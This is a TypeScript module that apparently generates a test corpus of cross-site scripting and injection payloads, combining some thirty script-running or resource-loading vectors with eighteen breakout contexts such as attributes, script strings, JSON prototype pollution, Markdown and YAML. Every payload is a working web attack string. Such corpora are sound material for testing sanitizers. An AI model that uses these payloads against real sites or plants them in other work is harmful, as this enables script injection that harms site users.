/** What each of them tries to run: it would open a dialog, and leave a mark where dialogs are refused. */
const run = 'alert(window.ran=1)';
const other = 'https://elsewhere.example/x';

/** Ways to run a script, to load something from elsewhere or to change the page, for one who can write into it. */
const vectors = [
  `<script>${run}</script>`,
  `<script src=${other}></script>`,
  `<img src=x onerror=${run}>`,
  `<IMG SRC="${other}">`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text x=9 y=9>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${run}>">`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<object data="data:text/html,<script>${run}</script>"></object>`,
  `<embed src="javascript:${run}">`,
  `<base href="${other}/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<link rel=stylesheet href="${other}.css">`,
  `<style>@import "${other}.css"; * { background: url(${other}.png) }</style>`,
  `<p style="position:fixed;inset:0;background:url(${other})" onclick=${run}>x</p>`,
  `<form action="javascript:${run}"><input name=attributes autofocus onfocus=${run}></form>`,
  `<details open ontoggle=${run}>x</details>`,
  `<video><source onerror=${run}></video>`,
  `<template shadowrootmode=open><script>${run}</script></template>`,
  `<a id=location href="javascript:${run}" name=document>x</a>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<x onfocus=${run} tabindex=1 id=page-content autofocus>x</x>`,
  `&lt;script&gt;${run}&lt;/script&gt; &#60;img src=x onerror=${run}&#62;`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `javascript:${run}`,
  `JaVaScRiPt&colon;${run}`,
  `data:text/html,<script>${run}</script>`,
  `{{constructor.constructor('${run}')()}}\${${run}}`,
];

/** Where it may come to stand: each ends what is open there, or goes on in it. */
const contexts: Readonly<Record<string, (vector: string) => string>> = {
  text: (vector) => vector,
  'an attribute': (vector) => `">${vector}`,
  'an attribute in single quotation marks': (vector) => `'>${vector}`,
  'an attribute without any': (vector) => `x onmouseover=${run} autofocus>${vector}`,
  'a title or a text area': (vector) => `</title></textarea>${vector}`,
  'a style': (vector) => `}</style>${vector}`,
  'a script': (vector) => `</script>${vector}`,
  'a string in a script': (vector) => `\\';${run}//\`;${run}//${vector}`,
  JSON: (vector) => `","__proto__":{"html":"${vector}"},"x":"`,
  'a comment': (vector) => `--!>${vector}`,
  CDATA: (vector) => `]]>${vector}`,
  SVG: (vector) => `</text></svg>${vector}`,
  'an address': (vector) => `/search/?q=${vector}&q[]=${vector}#${vector}`,
  'a link in Markdown': (vector) => `[x](${vector} "${vector}")`,
  'an image in Markdown': (vector) => `![${vector}](${vector})`,
  'an address in Markdown': (vector) => `<${vector}> [x]: ${vector}`,
  'code in Markdown': (vector) => `\`\`${vector}\``,
  YAML: (vector) => `!!js/function "${vector}": &x [*x] # '${vector}`,
};

/** Each way in each place: `'">' + '<svg onload=alert(window.ran=1)>'`, and some five hundred more. */
export const payloads: readonly string[] = Object.values(contexts).flatMap((place) => vectors.map(place));
